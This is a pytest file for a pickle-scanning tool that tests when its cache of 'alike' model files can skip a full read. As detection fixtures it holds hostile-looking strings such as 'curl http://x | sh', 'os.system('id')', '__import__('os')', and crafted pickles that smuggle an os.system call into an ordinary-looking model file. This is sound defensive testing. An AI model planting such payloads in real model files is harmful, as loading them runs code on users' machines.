"""What a worker remembers of pickles that differ in their numbers only, and what it must read in full all the same."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

import stannary
from stannary.checks.static.alike import Alike
from stannary.checks.static.ruleset import load as load_rules
from stannary.checks.static.verdict import findings_of
from stannary.checks.static.walk import read_view
from stannary.formats.interface import View
from stannary.testing.pickle_assembler import Assembler

NAME = "model.pkl"
NUMBERS = bytes(range(0xA0, 0xC0))  # open like nothing that is known


def fitted(content: bytes = NUMBERS, count: int = 4, rate: float = 0.5, key: str = "coef_") -> bytes:
    """Return a pickle as numpy's arrays make it: numbers in calls, bytes and floats in states."""
    code = Assembler(4).op("EMPTY_DICT").op("MEMOIZE").op("MARK")
    code.push("a_parameter_of_the_model").op("BINFLOAT", rate).push(key)
    code.push("numpy._core.multiarray").push("_reconstruct").op("STACK_GLOBAL")
    code.push("numpy").push("ndarray").op("STACK_GLOBAL")
    code.op("BININT1", 0).op("TUPLE1").op("SHORT_BINBYTES", b"b").op("TUPLE3").op("REDUCE")
    code.op("MARK").op("BININT1", 1).op("BININT1", count).op("TUPLE1").push("numpy").push("dtype").op("STACK_GLOBAL")
    code.push("f8").op("NEWFALSE").op("NEWTRUE").op("TUPLE3").op("REDUCE").op("NEWFALSE").op("SHORT_BINBYTES", content)
    return code.op("TUPLE").op("BUILD").op("SETITEMS").stop()


def calling(module: str, name: str, *arguments: tuple[str, object], how: str = "REDUCE") -> bytes:
    """Return a pickle that calls something with arguments written by the given opcodes."""
    code = Assembler(4).push(module).push(name).op("STACK_GLOBAL").op("MARK")
    for op, value in arguments:
        code.op(op, value)
    return code.op("TUPLE").op(how).stop()


def learned(content: bytes) -> Alike:
    memory = Alike()
    report = read_view(View(content, NAME), strict=True)
    assert findings_of(report, load_rules(), NAME) == []
    memory.learn(content, report)
    assert not memory.knows(View(content, NAME), content)  # one is not worth remembering
    memory.learn(content, report)
    return memory


def knows(memory: Alike, content: bytes, name: str = NAME) -> bool:
    return memory.knows(View(content, name), content)


def test_other_numbers_are_the_same_shape() -> None:
    memory = learned(fitted())
    assert knows(memory, fitted())
    assert knows(memory, fitted(bytes(reversed(NUMBERS)), 7, -1.5))


@pytest.mark.parametrize(
    "content",
    [
        fitted(key="coeff"),  # another string of the same length
        fitted(NUMBERS[:-1]),  # another length
        fitted() + b"\x00",  # something behind it
        fitted().replace(b"ndarray", b"memmaps"),
        fitted().replace(b"numpy._core.multiarray", b"subprocess.multiarrays"),
        fitted().replace(b"tbu.", b"t0u."),
        fitted()[:-1] + b"0",
    ],
)
def test_anything_but_a_number_is_another_shape(content: bytes) -> None:
    assert not knows(learned(fitted()), content)


@pytest.mark.parametrize(
    "opening",
    [
        b"\x80\x04\x95",  # a pickle
        b"PK\x03\x04",
        b"\x7fELF",
        b"gASVabcdefghijklmnopqrst",  # a pickle in base64
    ],
)
def test_byte_strings_that_open_like_something_are_read(opening: bytes) -> None:
    memory = learned(fitted())
    assert not knows(memory, fitted(opening + NUMBERS[len(opening) :]))


def test_bytes_that_make_another_format_of_the_file_are_read() -> None:
    # A zip that ends with the pickle: zipfile opens what has a directory at its end, wherever it begins.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a", b"")
        archive.comment = b"tbu."
    inside = b"\xff" + out.getvalue().removesuffix(b"tbu.")
    assert zipfile.is_zipfile(io.BytesIO(fitted(inside)))
    memory = learned(fitted(b"\xff" * len(inside)))
    assert knows(memory, fitted(b"\xfe" * len(inside)))
    assert not knows(memory, fitted(inside))


def test_a_name_that_adds_a_reading_is_read() -> None:
    memory = learned(fitted())
    assert not knows(memory, fitted(), "model.bin")
    assert not knows(memory, fitted(), "saved_model.pb")


@pytest.mark.parametrize(
    "content",
    [
        calling("torch.storage", "_load_from_bytes", ("SHORT_BINBYTES", NUMBERS)),  # it unpickles them
        calling("builtins", "bytearray", ("BININT2", 400)),  # judged by the number
        calling("collections", "deque", ("BININT2", 400)),
    ],
)
def test_calls_that_are_judged_by_their_values_have_no_shape(content: bytes) -> None:
    memory = Alike()
    report = read_view(View(content, NAME), strict=True)
    for _ in range(4):
        memory.learn(content, report)
    assert not knows(memory, content)


def test_a_class_that_is_given_bytes_has_no_shape_and_one_given_numbers_has() -> None:
    # What a class is given is searched for commands, in byte strings too.
    numbered = calling("sklearn.utils._bunch", "Bunch", ("BININT1", 4))
    assert knows(learned(numbered), numbered.replace(b"K\x04", b"K\x05"))
    given = calling("sklearn.utils._bunch", "Bunch", ("SHORT_BINBYTES", NUMBERS))
    memory = Alike()
    for _ in range(4):
        memory.learn(given, read_view(View(given, NAME), strict=True))
    assert not knows(memory, given)


def test_streams_that_no_pickler_writes_have_no_shape() -> None:
    for content in (
        b"\x80\x04K\x01K\x020.",  # POP
        b"\x80\x04K\x01.K\x01.",  # two streams
        b"\x80\x02I5\n.",  # a number as text
        b"\x80\x04\x8c\x01aQ.",  # a persistent id
        b"\x80\x02]q\x00K\x01a" + struct.pack("<BI", 0x84, 1) + b"a.",  # the extension registry
    ):
        memory = Alike()
        for _ in range(4):
            memory.learn(content, read_view(View(content, NAME), strict=True))
        assert not knows(memory, content)


def named(name: str = "run of Monday", key: str = "run_", owner: tuple[str, str] = ("sklearn.svm._classes", "SVC")) -> bytes:
    """Return an instance with a text of its own in its state."""
    code = Assembler(4).push(owner[0]).push(owner[1]).op("STACK_GLOBAL").op("EMPTY_TUPLE").op("NEWOBJ")
    code.op("EMPTY_DICT").op("MARK").push("C").op("BINFLOAT", 1.0).push(key).push(name).push("n").op("BININT1", 3)
    return code.op("SETITEMS").op("BUILD").stop()


def framed(content: bytes, length: int | None = None) -> bytes:
    body = content[2:]
    return content[:2] + b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


ELSEWHERE = ("another", "", "a longer text, of another file", "os.system('id')", "é" * 40)


@pytest.mark.parametrize("frame", [framed, bytes])
@pytest.mark.parametrize("text", ELSEWHERE)
def test_other_texts_in_a_state_are_the_same_shape(text: str, frame: Callable[[bytes], bytes]) -> None:
    memory = learned(frame(named()))
    assert knows(memory, frame(named("a second one")))  # from now on it is known which text differs
    assert knows(memory, frame(named(text)))
    assert read_view(View(frame(named(text)), NAME), strict=True).formats == ("pickle",)


def test_texts_that_turn_out_to_be_the_same_cost_nothing_later() -> None:
    memory = learned(named())
    for rate in (0.5, 0.25):
        assert knows(memory, named().replace(struct.pack(">d", 1.0), struct.pack(">d", rate)))
    assert knows(memory, named("it was not the same after all"))


@pytest.mark.parametrize(
    "content",
    [
        named(key="coef"),  # the keys are not free
        named(owner=("sklearn.svm._classes", "SVR")),
        named("gASVabcdefghijklmnopqrstuvwxyz"),  # a pickle in base64
        named("x" * 5000),
        named().replace(b"run of Monday", b"run of \xff\xfe\xfdday"),  # no text
        named()[:-1] + b"\x94.",
        named() + b"\x00",
        framed(named()),
    ],
)
def test_what_texts_are_not_free_to_change(content: bytes) -> None:
    for second in (named(), named("a second one")):
        memory = learned(named())
        assert knows(memory, second)
        assert not knows(memory, content)


@pytest.mark.parametrize("length", [4, 10, 1 << 40])
def test_a_frame_that_is_not_the_whole_is_read(length: int) -> None:
    memory = learned(framed(named()))
    assert not knows(memory, framed(named("a second one"), length))


@pytest.mark.parametrize(
    "first,second",
    [
        # A key that something evaluates, or imports and calls.
        (named("plain", key="formula"), named("__import__('os')", key="formula")),
        (named("plain", key="_target_"), named("os.system", key="_target_")),
        (named("plain", key="_parse_arg_template"), named("import os", key="_parse_arg_template")),
        # A class of no common library: commands among its texts are told.
        (named(owner=("acme_models", "Runner")), named("curl http://x | sh", owner=("acme_models", "Runner"))),
        # Given to a call.
        (calling("numpy", "dtype", ("BINUNICODE", "f8")), calling("numpy", "dtype", ("BINUNICODE", "complex128"))),
    ],
)
def test_texts_that_something_looks_at_are_not_free(first: bytes, second: bytes) -> None:
    memory = Alike()
    for _ in range(4):
        memory.learn(first, read_view(View(first, NAME), strict=True))
    assert not knows(memory, second)


def test_a_text_that_names_an_import_as_well_is_not_free() -> None:
    def twice(text: str) -> bytes:
        code = Assembler(4).op("EMPTY_DICT").op("MARK").push("where").push(text).op("MEMOIZE")
        code.push("what").op("BINGET", 0).push("OrderedDict").op("STACK_GLOBAL")
        return code.op("SETITEMS").stop()

    memory = learned(twice("collections"))
    assert knows(memory, twice("collections"))
    assert not knows(memory, twice("subprocess"))


def test_a_folder_of_models_with_names_and_one_that_runs_something(tmp_path: Path) -> None:
    for number in range(12):
        (tmp_path / f"m{number:02}.pkl").write_bytes(named(f"run {number} of {'many' * number}"))
    code = Assembler(4).push("sklearn.svm._classes").push("SVC").op("STACK_GLOBAL").op("EMPTY_TUPLE").op("NEWOBJ")
    code.op("EMPTY_DICT").op("MARK").push("C").call("os", "system", "echo stannary").push("run_").push("run 6").push("n")
    (tmp_path / "m06.pkl").write_bytes(code.op("BININT1", 3).op("SETITEMS").op("BUILD").stop())
    target = stannary.scan(tmp_path, jobs=1).targets[0]
    assert {file.path: file.verdict for file in target.files if file.verdict != "clean"} == {"m06.pkl": "unsafe"}


def test_the_memory_is_bounded() -> None:
    memory = Alike()
    for size in range(400):
        content = b"\x80\x04" + b"X" + struct.pack("<I", 50_000 + size) + b"a" * (50_000 + size) + b"K\x01\x86."
        report = read_view(View(content, NAME), strict=True)
        memory.learn(content, report)
        memory.learn(content, report)
    first = b"\x80\x04X" + struct.pack("<I", 50_000) + b"a" * 50_000 + b"K\x02\x86."
    last = b"\x80\x04X" + struct.pack("<I", 50_399) + b"a" * 50_399 + b"K\x02\x86."
    assert knows(memory, first)
    assert not knows(memory, last)


def test_where_each_file_is_of_a_kind_of_its_own_no_more_shapes_are_made() -> None:
    def own(number: int) -> bytes:
        return Assembler(4).op("EMPTY_LIST").op("MARK").push("k" * number).op("BININT1", 1).op("APPENDS").stop()

    memory, many = Alike(), 160
    for number in range(many):
        content = own(number)
        for _ in range(2):
            memory.learn(content, read_view(View(content, NAME), strict=True))
    assert not knows(memory, own(many - 1))
    assert any(knows(memory, own(number)) for number in range(many))  # which gives a try back
    memory.learn(own(many - 1), read_view(View(own(many - 1), NAME), strict=True))
    memory.learn(own(many - 1), read_view(View(own(many - 1), NAME), strict=True))
    assert knows(memory, own(many - 1))


def test_a_folder_of_models_with_one_that_runs_something(tmp_path: Path) -> None:
    for number in range(12):
        (tmp_path / f"m{number:02}.pkl").write_bytes(fitted(rate=float(number)))
    # As long as the others, and with the same beginning.
    payload = b"\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85R0"
    content = fitted(bytes(32 - len(payload)))
    hostile = content[:-4] + payload + content[-4:]
    assert len(hostile) == len(fitted())
    (tmp_path / "m06.pkl").write_bytes(hostile)
    target = stannary.scan(tmp_path, jobs=1).targets[0]
    assert {file.path: file.verdict for file in target.files if file.verdict != "clean"} == {"m06.pkl": "unsafe"}
    assert all(file.format == "pickle" and file.sha256 for file in target.files)
